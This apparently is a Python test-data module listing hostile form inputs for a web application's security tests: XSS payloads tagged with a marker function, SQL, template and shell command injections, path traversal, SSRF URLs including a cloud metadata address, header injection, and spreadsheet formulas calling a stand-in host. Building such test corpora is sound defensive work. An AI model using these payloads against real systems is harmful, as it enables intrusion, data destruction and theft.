# ruff: noqa: E501 - a table
"""What people who mean harm, and programs gone wrong, type into fields.

Whatever could become markup or script carries the word ``hxq``: as an element, an attribute, or the function it calls.
"""

from __future__ import annotations

import itertools

_HANDLERS = [
    "onload",
    "onerror",
    "onclick",
    "onfocus",
    "onmouseover",
    "onpointerenter",
    "onanimationstart",
    "ontoggle",
    "onbeforetoggle",
    "onscroll",
    "onsecuritypolicyviolation",
    "onwheel",
    "oncut",
    "oncontentvisibilityautostatechange",
]
_TAGS = [
    "img",
    "svg",
    "body",
    "input",
    "details",
    "video",
    "audio",
    "marquee",
    "iframe",
    "object",
    "math",
    "style",
    "select",
    "textarea",
    "keygen",
]
_BREAKS = ('"', "'", ">", '">', "'>", "</title>", "</textarea>", "</script>", "</style>", "-->", "]]>", "`", "\"'><")
_SCHEMES = (
    "javascript:hxq()",
    "JaVaScRiPt:hxq()",
    "java\tscript:hxq()",
    "java\nscript:hxq()",
    " javascript:hxq()",
    "\x01javascript:hxq()",
    "javascript&colon;hxq()",
    "javascript://example.org/%0ahxq()",
    "vbscript:hxq()",
    "data:text/html,<script>hxq()</script>",
    "data:text/html;base64,PHNjcmlwdD5oeHEoKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='hxq()'/>",
    "blob:hxq",
    "filesystem:hxq",
    "view-source:javascript:hxq()",
    "file:///etc/passwd",
    "gopher://127.0.0.1:6379/_hxq",
    "//evil.example/hxq",
    "\\\\evil.example\\hxq",
    "https:evil.example/hxq",
    "https://evil.example@127.0.0.1/hxq",
    "http://[::ffff:127.0.0.1]/hxq",
    "http://2130706433/hxq",
    "http://0x7f.1/hxq",
    "http://169.254.169.254/latest/meta-data/",
)
SCRIPTS = [
    "<script>hxq()</script>",
    "<ScRiPt>hxq()</sCrIpT>",
    "<script src=//evil.example/hxq.js></script>",
    "<script\n>hxq()</script\n>",
    "<scr<script>ipt>hxq()</scr</script>ipt>",
    "<script type=module>hxq()</script>",
    "<script/hxq>hxq()</script>",
    "<svg><script>hxq()</script></svg>",
    "<svg><script href=data:,hxq()></script></svg>",
    "<svg><animate onbegin=hxq() attributeName=x dur=1s>",
    "<svg><set onbegin=hxq()>",
    "<svg><use href=data:image/svg+xml;base64,PHN2Zz4=#x></use></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>hxq()</script>'></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=hxq()>",
    "<math href='javascript:hxq()'>hxq</math>",
    "<iframe srcdoc='<script>parent.hxq()</script>'></iframe>",
    "<iframe src=javascript:hxq()></iframe>",
    "<object data=javascript:hxq()></object>",
    "<embed src=javascript:hxq()>",
    "<form action=javascript:hxq()><button>hxq</button></form>",
    "<button formaction=javascript:hxq()>hxq</button>",
    "<a href=javascript:hxq()>hxq</a>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:hxq()'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "<link rel=stylesheet href=//evil.example/hxq.css>",
    "<link rel=import href=data:text/html,hxq>",
    "<style>*{background:url(//evil.example/hxq)}</style>",
    "<style>@import '//evil.example/hxq.css';</style>",
    "<div style=background:url(javascript:hxq())>hxq</div>",
    '<div style="width:expression(hxq())">',
    "<template><script>hxq()</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=hxq()>">',
    '<xmp><p title="</xmp><img src=x onerror=hxq()>">',
    "<title><img src=x onerror=hxq()></title>",
    "<!--><img src=x onerror=hxq()>-->",
    "<![CDATA[<script>hxq()</script>]]>",
    "<?xml version='1.0'?><hxq/>",
    "<!DOCTYPE hxq [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><hxq>&x;</hxq>",
    "<hxq-element hxq=1>",
    "<hxq/onmouseover=hxq()>",
    "<input autofocus onfocus=hxq()>",
    "<input type=hidden name=role value=hxq>",
    "<details open ontoggle=hxq()>",
    "<dialog open oncancel=hxq()>",
    "<portal src=//evil.example/hxq>",
    "<slot name=hxq><img src=x onerror=hxq()></slot>",
    "<embed-button hxq=1>",
    "<embed embedtype=media url=//evil.example/hxq />",
    "<a linktype=page id=1>hxq</a>",
    '<img src="x" alt="`onerror=hxq()">',
    "<img src=x:x onerror\x00=hxq()>",
    "<img src=x onerror\x0b=hxq()>",
    "<img/src=x/onerror=hxq()>",
    "<img src=x onerror=&#104;xq()>",
    "<p class='\"><img src=x onerror=hxq()>'>",
    "＜script＞hxq()＜/script＞",
    "\u003cscript\u003ehxq()\u003c/script\u003e",
    "\\u003cscript\\u003ehxq()\\u003c/script\\u003e",
    "\\x3cscript\\x3ehxq()",
    "%3Cscript%3Ehxq()%3C/script%3E",
    "%253Cscript%253Ehxq()%253C/script%253E",
    "&lt;script&gt;hxq()&lt;/script&gt;",
    "&amp;lt;script&amp;gt;hxq()",
    "&#60;script&#62;hxq()&#60;/script&#62;",
    "+ADw-script+AD4-hxq()+ADw-/script+AD4-",
    "';hxq();//",
    '";hxq();//',
    '\\";hxq();//',
    "</script><script>hxq()//",
    "-hxq()-",
    "\u2028hxq()\u2029",
    "${hxq()}",
    "`${hxq()}`",
    "{{hxq()}}",
    "{{constructor.constructor('hxq()')()}}",
    "[hxq](javascript:hxq())",
    '![hxq](x" onerror="hxq())',
    "<javascript:hxq()>",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=hxq() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=hxq()//>",
    '"><svg/onload=hxq()>"',
    "'><details/open/ontoggle=hxq()>",
]
TEMPLATES = [
    "{{ 7|add:7 }}", "{% debug %}", "{% include '/etc/passwd' %}", "{% load static %}", "{{ settings.SECRET_KEY }}",
    "{{ request.user.password }}", "{%", "%}", "{{", "}}", "{#", "{{ 7*7 }}", "#{7*7}", "<%= 7*7 %>", "${7*7}", "{name}",
    "{reference}", "{0.__class__}", "{call.__init__.__globals__}", "{", "}", "{}", "{!r}", "%(name)s", "%s%s%s%s%n",
    "%d", "%", "%%", "$name", "${name}", "{% verbatim %}", "{% csrf_token %}",
]  # fmt: skip
QUERIES = [
    "' OR '1'='1", "' OR 1=1 --", "'; DROP TABLE inquiries_inquiry; --", "1; SELECT pg_sleep(10)", "\\'; --",
    "' UNION SELECT password FROM core_user --", "1' AND SLEEP(5)#", "admin'--", "\") OR (\"1\"=\"1", "0x31", "1/0",
    "'||(select 1)||'", "$$;select 1;$$", "\x1a", "*", "a*", "\"", "\"a", "a\"b", "NEAR(a b)", "a NEAR/3 b", "a AND",
    "AND OR NOT", "NOT", "(", ")", "((((((((((", "^a", "a:b", "title:hxq", "Macher:innen", "-a", "+a", "a^2", "~a", "a~2",
    "a & b", "a | !b", "<->", "a:*", ":*", "!", "&", "|", "\\", "\\\\", "[a-z]", "(a+)+$", "%_%", "_", "LIKE '%'",
    '{"$gt": ""}', '{"$where": "sleep(1000)"}', "*)(uid=*))(|(uid=*", "' or name()='x", "..;/", "#", "--", "/*", "*/",
]  # fmt: skip
COMMANDS = [
    "; cat /etc/passwd", "| id", "`id`", "$(id)", "&& sleep 10", "|| sleep 10", "\n/bin/sleep 10", "() { :;}; sleep 10",
    "%0aid", "!!", "~root", "$HOME", "${IFS}", "-rf /", "--help", "-v", "@/etc/passwd", "<(id)", "> /tmp/hxq", "con",
    "nul", "aux.txt", "__import__('os').system('id')", "eval(hxq)", "O:8:\"stdClass\":0:{}", "rO0ABXNyAA==", "gASVhAA=",
    "!!python/object/apply:os.system ['id']", "__proto__", "constructor", "toString", "__proto__[hxq]=1",
]  # fmt: skip
PATHS = [
    "../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "....//....//etc/passwd", "%2e%2e%2f", "..%c0%af",
    "..%252f", "file.txt\x00.png", "a.php.jpg", "C:\\", "\\\\?\\C:\\", "/proc/self/environ", "/dev/random", ".", "..", "/",
    "//", "./././.", "~", ".git/config", "CON", "a/b", "a\\b", "?", "a?b=c&d", "a#b", "a;b=c", "%", "%zz", "%00", "%u0041",
]  # fmt: skip
CONTROLS = [
    *(f"a{chr(code)}b" for code in range(32)),
    "\x7f", "\x80", "\x85", "\x9b31m", "\x1b[31mhxq\x1b[0m", "\x1b]0;hxq\x07", "\x00", "\x00\x00\x00", "a\x00", "\x00b",
    "\r\nSet-Cookie: hxq=1", "\r\n\r\n<script>hxq()</script>", "\nBcc: kim@example.org", "\r\nBCC:kim@example.org",
    "kim@example.org\r\nBcc: lea@example.org", "kim@example.org%0ABcc:lea@example.org", "\n.\r\nMAIL FROM:<x@y>",
    "Betreff\r\nContent-Type: text/html", "=?utf-8?q?=0aBcc=3A_kim=40example.org?=", "\r", "\n", "\t", "\v\f",
]  # fmt: skip
UNICODE = [
    "\u202ehxq", "\u202dhxq\u202c", "\u2066hxq\u2069", "\u200b", "\u200dhxq", "\u00adhxq", "\ufeff", "\ufffe", "\uffff",
    "\ud800", "\udfff", "a\ud83d", "\udc00\ud800", "\U0010ffff", "\U000e0001", "\ufdd0", "\u0000\u202e", "ﷺ" * 50,
    "a" + "\u0300" * 200, "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!", "👩\u200d👩\u200d👧\u200d👦" * 20, "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "𝕳𝖝𝖖", "İıſK", "ß", "ẞ", "ﬀ", "①", "٣", "१२३",
    "раураl", "xn--80ak6aa92e.com", "a\u3000b", "\u3164", "\u115f", "\u1160", "\u2066\u2069", "ℌ", "˙˙", "．．／", "＇ ＯＲ １＝１", "\u2028",
    "\u2029", "\ue000", "\u180e", "e\u0301", "\u0301", "ǅ", "🇩🇪", "مرحبا", "שלום", "汉字", "ประเทศ", "\U0001d11e",
]  # fmt: skip
NUMBERS = [
    "0", "-0", "-1", "1", "1.5", "1,5", "1e3", "1e999", "-1e999", "NaN", "Infinity", "-inf", "0x10", "0b1", "1_000", " 1 ",
    "+1", "٣", "²", "1" * 30, "9" * 400, "9" * 5000, "2147483647", "2147483648", "-2147483649", "9223372036854775808",
    "18446744073709551616", "1/2", "1-1", "1.0000000000000001", "00", "007", "½", "1 000", "1'000", "true", "null",
    "undefined", "None", "[]", "{}", "[1]", "on", "off", "ja",
]  # fmt: skip
DATES = [
    "0000-00-00", "2027-13-45", "2027-02-30", "9999-12-31", "10000-01-01", "-0001-01-01", "1.3.2027", "31.2.2027", "1.1.1",
    "2027-03-01T00:00:00Z", "2027-W09-1", "20270301", "01/02/2027", "heute", "now", "2027-03-01' OR 1=1", "99.99.9999",
    "1970-01-01", "٢٠٢٧-٠٣-٠١", "2027‑03‑01",
]  # fmt: skip
SHEETS = [
    "=1+1", "=HYPERLINK(\"//evil.example\",\"hxq\")", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd",
    "-1+cmd", "\t=1+1", "\r=1+1", "=IMPORTXML(\"//evil.example\",\"//a\")", "%0A=1+1", "\"=1+1", ";=1+1", ",=1+1", "＝1+1",
    "=WEBSERVICE(\"http://evil.example/\"&A1)", "'=1+1",
]  # fmt: skip
SIZES = [
    "",
    " ",
    "x" * 1_000,
    "x" * 5_001,
    "x" * 20_000,
    "ä" * 5_000,
    "x " * 5_000,
    "\n" * 3_000,
    "<" * 3_000,
    "a," * 2_000,
]
FORMS = [
    "a&role=host", "a=b&c=d", "a;b", "[]", "{\"a\":1}", "[" * 500, "{\"a\":" * 200, "<a>" * 200, "a[]=1", "a[b]=1", "null",
    "true", "kim@example.org,lea@example.org", "kim@example.org;lea@example.org", "<kim@example.org>", "kim@",
    "@example.org", "kim@@example.org", "\"kim\"@example.org", "kim@[127.0.0.1]", "kim@localhost", "kim+hxq@example.org",
    "kim@exämple.org", "kim@example.org.", "a" * 250 + "@example.org", "kim@" + "a" * 250 + ".org", "kim@-x.org",
    "01099'", "0109", "010999", "٠١٠٩٩", "99999", "D-04109", "http://evil.example http://evil.example http://evil.example",
    "[url=http://evil.example]hxq[/url]",
]  # fmt: skip

#: By what they try; every family has something of its own to find.
FAMILIES: dict[str, list[str]] = {
    "script": SCRIPTS,
    "handler": [f"<{tag} {handler}=hxq() src=x>" for tag, handler in zip(itertools.cycle(_TAGS), _HANDLERS * 2)],
    "attribute": [f"{start} hxq={start}1" for start in _BREAKS]
    + [f"{start} onmouseover=hxq() autofocus tabindex=1 x={start}" for start in _BREAKS]
    + [f"{start}<img src=x onerror=hxq()>" for start in _BREAKS],
    "scheme": [*_SCHEMES],
    "template": TEMPLATES,
    "query": QUERIES,
    "command": COMMANDS,
    "path": PATHS,
    "control": CONTROLS,
    "unicode": UNICODE,
    "number": NUMBERS,
    "date": DATES,
    "sheet": SHEETS,
    "size": SIZES,
    "form": FORMS,
}
PAYLOADS: list[str] = list(dict.fromkeys(itertools.chain.from_iterable(FAMILIES.values())))
#: What could run somewhere: shown in every screen.
ACTIVE: list[str] = list(
    dict.fromkeys([*SCRIPTS, *FAMILIES["handler"], *FAMILIES["attribute"], *_SCHEMES, *TEMPLATES, *SHEETS])
)
#: Two of each family, for the tests of every day.
SOME: list[str] = [payload for family in FAMILIES.values() for payload in (family[0], family[len(family) // 2])]

#: Names people have. Nothing in them is changed, and nobody is asked to write them differently.
UNUSUAL_NAMES: list[str] = [
    "Jürgen Groß", "Änne Öztürk-Çelik", "Sinéad O’Connor", "Sinéad O'Connor", "D'Angelo Müller", "Zoë Łukasiewicz",
    "Nguyễn Thị Minh Khai", "José María García-López y Ñíguez", "Ōe Kenzaburō", "Björk Guðmundsdóttir", "Þóra Ægisdóttir",
    "X Æ A-12", "Ng", "Li", "O", "Jean-François d’Estaing", "Karl-Theodor von und zu Guttenberg", "Dr. med. Anna-Lena Weiß",
    "Müller, Hans", "Hans Müller (Verein)", "Test User", "Anna Null", "Herr None", "Robert Select", "Mac Donald McGregor",
    "Владимир Иванов", "Γιώργος Παπαδόπουλος", "محمد العربي", "דוד כהן", "王小明", "김영희", "समीर कुमार", "ณัฐวุฒิ ใจดี",
    "Ayşe İnci Işık", "Ĝoĉjo Ŝmit", "Ma³ke & Söhne", "Macher:in Mustermensch", "Kim*", "Ottokar 3. Graf", "ẞtraßer",
    "Mária Kováčová-Ďuricová", "Adolph Blaine Charles David Earl Frederick Gerald Hubert Irvin John",
]  # fmt: skip
